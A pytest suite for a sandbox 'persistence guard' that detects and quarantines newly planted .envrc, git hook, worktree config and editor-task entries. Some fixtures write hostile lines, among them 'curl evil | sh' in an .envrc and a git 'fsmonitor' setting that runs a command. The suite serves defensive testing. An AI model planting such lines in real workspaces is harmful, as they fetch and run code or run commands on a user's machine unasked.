"""The persistence guard (issue 14 §1): what counts as a protected entry, and that
each one created after the guard started is found and quarantined, on the host
file system only (no sandbox needed at this layer)."""

from __future__ import annotations

import fcntl
import json
import os
import subprocess
from pathlib import Path

import pytest

from pi_sandbox.sandbox.persistence_guard import (
    PersistenceGuard,
    classify,
    remove_legacy_placeholders,
)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path = Path(os.path.realpath(tmp_path)) / "ws"
    (path / "src").mkdir(parents=True)
    (path / "src" / "app.py").write_text("print()\n")
    return path


def guard_for(root: Path, tmp_path: Path, **kwargs) -> PersistenceGuard:
    return PersistenceGuard([str(root)], quarantine_dir=str(tmp_path / "q"), **kwargs)


@pytest.mark.parametrize(
    ("rel", "protected"),
    [
        (".envrc", True),
        (".mcp.json", True),
        ("deep/er/.pi", True),
        ("pkg/.git", True),
        (".github", True),
        ("pkg/.github", False),  # only the top of a root matters to CI
        (".bashrc", True),
        ("pkg/.bashrc", False),
        (".git/hooks", True),
        (".git/hooks/pre-commit", True),
        (".git/config", True),
        (".git/info/attributes", True),
        (".git/info/exclude", False),
        (".git/commondir", True),
        (".git/objects/ab/cdef", False),
        (".git/refs/heads/feature", False),
        (".git/index.lock", False),
        (".git/COMMIT_EDITMSG", False),
        (".git/logs/refs/stash", False),
        (".git/worktrees/wt/config.worktree", True),
        (".git/modules/lib/config", True),
        (".git/modules/lib/hooks/post-checkout", True),
        (".git/modules/lib/objects/ab/cd", False),
        ("src/main.py", False),
        ("README.md", False),
    ],
)
def test_classify_names_persistence_paths_and_nothing_ordinary(root, rel, protected):
    assert (classify(str(root / rel), str(root)) is not None) is protected


def test_a_watched_path_is_protected_whatever_its_name(root):
    watched = {str(root / "tools" / "hooks")}
    assert classify(str(root / "tools" / "hooks"), str(root), watched=watched)
    assert classify(str(root / "tools" / "other"), str(root), watched=watched) is None


def test_nothing_that_existed_at_start_is_reported(root, tmp_path):
    (root / ".envrc").write_text("export A=1\n")
    (root / "sub" / ".git").mkdir(parents=True)
    guard = guard_for(root, tmp_path)
    assert guard.check() == []
    assert (root / ".envrc").exists()


def test_new_protected_entries_anywhere_are_moved_to_the_quarantine(root, tmp_path):
    guard = guard_for(root, tmp_path)
    (root / ".envrc").write_text("curl evil | sh\n")
    (root / "src" / "pkg" / ".vscode").mkdir(parents=True)  # in a new directory
    (root / "src" / "pkg" / ".vscode" / "tasks.json").write_text("{}")
    (root / "src" / "ok.py").write_text("")
    findings = guard.check()
    assert {f.path for f in findings} == {
        str(root / ".envrc"),
        str(root / "src" / "pkg" / ".vscode"),
    }
    for finding in findings:
        assert finding.moved_to is not None and os.path.lexists(finding.moved_to)
        assert not os.path.lexists(finding.path)
        assert str(tmp_path / "q") in finding.moved_to
    assert (root / "src" / "ok.py").exists()
    assert guard.check() == []


def test_a_name_made_again_after_its_quarantine_is_quarantined_again(root, tmp_path):
    guard = guard_for(root, tmp_path)
    for _ in range(3):
        (root / ".pi").mkdir()
        [finding] = guard.check()
        assert finding.path == str(root / ".pi") and finding.moved_to
    assert not (root / ".pi").exists()


def test_a_protected_name_made_right_after_the_start_is_not_missed(root, tmp_path):
    # The coarse file-system clock may leave a directory's mtime unchanged by an
    # entry created within the same tick as the listing: recent ones are re-listed.
    guard = guard_for(root, tmp_path)
    info = os.stat(root)
    (root / ".pi").mkdir()
    os.utime(root, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert [f.path for f in guard.check()] == [str(root / ".pi")]


def test_a_replaced_directory_is_walked_again(root, tmp_path):
    guard = guard_for(root, tmp_path)
    os.rename(root / "src", tmp_path / "old-src")
    (root / "src" / ".idea").mkdir(parents=True)
    assert [f.path for f in guard.check()] == [str(root / "src" / ".idea")]


def git(cwd: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


def test_git_worktree_add_is_kept_and_a_changed_pointer_is_quarantined(root, tmp_path):
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    guard = guard_for(root, tmp_path)
    git(root, "worktree", "add", "-q", "wt")
    assert guard.check() == []
    assert (root / "wt" / ".git").is_file()
    # later pointed at a git directory the tool controls: quarantined
    (root / "evil").mkdir()
    (root / "wt" / ".git").write_text(f"gitdir: {root / 'evil'}\n")
    assert [f.path for f in guard.check()] == [str(root / "wt" / ".git")]


def test_a_planted_worktree_config_is_quarantined(root, tmp_path):
    git(root, "init", "-q")
    git(root, "commit", "-q", "--allow-empty", "-m", "init")
    git(root, "worktree", "add", "-q", "wt")
    guard = guard_for(root, tmp_path)
    (root / ".git" / "worktrees" / "wt" / "config.worktree").write_text(
        "[core]\n\tfsmonitor = touch /tmp/x\n"
    )
    assert [f.rule for f in guard.check()] == ["git worktrees/*/config.worktree"]


def test_a_git_file_pointing_outside_the_roots_is_not_accepted(root, tmp_path):
    guard = guard_for(root, tmp_path)
    (root / "pkg").mkdir()
    (root / "pkg" / ".git").write_text(f"gitdir: {tmp_path}/elsewhere/.git/worktrees/x\n")
    assert [f.path for f in guard.check()] == [str(root / "pkg" / ".git")]


def test_legacy_placeholders_are_removed_once_when_no_old_run_is_active(tmp_path):
    base = tmp_path / "state"
    base.mkdir(mode=0o700)
    empty, full = tmp_path / "ws" / ".envrc", tmp_path / "ws" / ".pi"
    empty.mkdir(parents=True)
    full.mkdir()
    (full / "mine").write_text("x")
    (base / "placeholders.json").write_text(json.dumps([str(empty), str(full)]))
    lock = base / "runs.lock"
    lock.touch()
    fd = os.open(lock, os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_SH)  # an old run is still active
    try:
        assert remove_legacy_placeholders(str(base)) == []
        assert empty.exists()
    finally:
        os.close(fd)
    assert remove_legacy_placeholders(str(base)) == [str(empty)]
    assert not empty.exists() and (full / "mine").exists()  # never one with content
    assert not (base / "placeholders.json").exists()


def test_a_worktree_git_file_written_before_its_commondir_waits_for_it(root, tmp_path):
    # git worktree add writes worktrees/NAME/gitdir, then the worktree's .git file,
    # then commondir: a check in between must not take git's own files for a plant.
    git(root, "init", "-q")
    guard = guard_for(root, tmp_path)
    admin = root / ".git" / "worktrees" / "wt"
    admin.mkdir(parents=True)
    (admin / "gitdir").write_text(f"{root / 'wt' / '.git'}\n")
    (root / "wt").mkdir()
    (root / "wt" / ".git").write_text(f"gitdir: {admin}\n")
    assert guard.check() == []
    (admin / "commondir").write_text("../..\n")
    assert guard.check() == []
    assert str(root / "wt" / ".git") in guard.accepted


def test_a_config_planted_in_a_worktrees_git_directory_is_quarantined(root, tmp_path):
    git(root, "init", "-q")
    (root / ".git" / "worktrees" / "x").mkdir(parents=True)
    guard = guard_for(root, tmp_path)
    (root / ".git" / "worktrees" / "x" / "config").write_text("[core]\n\tfsmonitor = x\n")
    (root / ".git" / "worktrees" / "x" / "hooks").mkdir()
    assert sorted(f.rule for f in guard.check()) == [
        "git worktrees/*/config",
        "git worktrees/*/hooks",
    ]


def test_a_tree_beyond_the_directory_bound_is_marked_incomplete(root, tmp_path):
    for i in range(5):
        (root / f"d{i}").mkdir()
    assert not guard_for(root, tmp_path, max_directories=3).complete
    assert guard_for(root, tmp_path).complete


def test_a_quarantine_inside_a_writable_root_is_not_quarantined_again(root, tmp_path):
    guard = PersistenceGuard([str(root)], quarantine_dir=str(root / "state" / "quarantine"))
    (root / ".envrc").write_text("x")
    assert len(guard.check()) == 1
    (root / ".pi").mkdir()
    assert [f.path for f in guard.check()] == [str(root / ".pi")]
    assert guard.check() == []
